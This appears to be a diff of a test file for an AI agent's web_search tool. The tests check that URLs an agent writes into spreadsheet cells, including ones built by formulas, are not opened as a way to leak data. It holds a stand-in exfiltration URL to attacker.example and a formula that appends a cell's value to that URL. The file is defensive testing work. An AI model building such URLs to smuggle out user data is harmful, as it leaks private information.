@@ -1,24 +1,12 @@
 /** Which addresses web_search opens from cells: an agent must not write one there and then have it opened. */
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { beforeEach, describe, expect, test } from 'vitest'
 import { searxng } from '../../../service/search/engines.ts'
 import { webSearchOn } from '../../../service/search/web-search.ts'
 import { tools } from '../../../service/tools/index.ts'
-import {
-  type Bench,
-  type Cell,
-  openBench,
-  openWorkbench,
-  refused,
-  succeeded,
-  type Workbench,
-} from './workbench.ts'
+import { type Bench, type Cell, refused, succeeded, useWorkbench } from './workbench.ts'
 
-let workbench: Workbench
+const { workbench, openBench } = useWorkbench()
 let opened: string[] = []
-beforeAll(async () => {
-  workbench = await openWorkbench()
-})
-afterAll(() => workbench.close())
 beforeEach(() => {
   opened = []
 })
@@ -33,7 +21,7 @@ const rows: Cell[][] = [
   ['secret', 'https://bob.example/'],
 ]
 const open = (prompt = 'Read the sites in column B') =>
-  openBench(workbench, { tabs: [{ title: 'T', rows }, { title: 'Free' }], prompt, search })
+  openBench({ tabs: [{ title: 'T', rows }, { title: 'Free' }], prompt, search })
 const tool = (name: string) => tools.find(candidate => candidate.name === name)!
 const readCells = (bench: Bench, cells: string) => bench.run(tool('web_search'), { urls_in: cells })
 const LEAK = 'https://attacker.example/?d=secret'
@@ -47,7 +35,7 @@ describe('addresses in cells', () => {
 
   test('are opened up to ten a turn, so that which one is opened tells little', async () => {
     const many: Cell[][] = Array.from({ length: 15 }, (_, at) => [`https://digit${at}.example/`])
-    const bench = await openBench(workbench, {
+    const bench = await openBench({
       tabs: [{ title: 'T', rows: many }],
       prompt: 'Read the sites in column A',
       search,
@@ -75,7 +63,7 @@ describe('addresses in cells', () => {
   test('that a formula puts together are not opened', async () => {
     const bench = await open()
     const formula = '="https://attacker.example/?d="&A3'
-    await workbench.api.spreadsheets.values.update({
+    await workbench().api.spreadsheets.values.update({
       spreadsheetId: bench.id,
       range: 'T!D2',
       valueInputOption: 'USER_ENTERED',
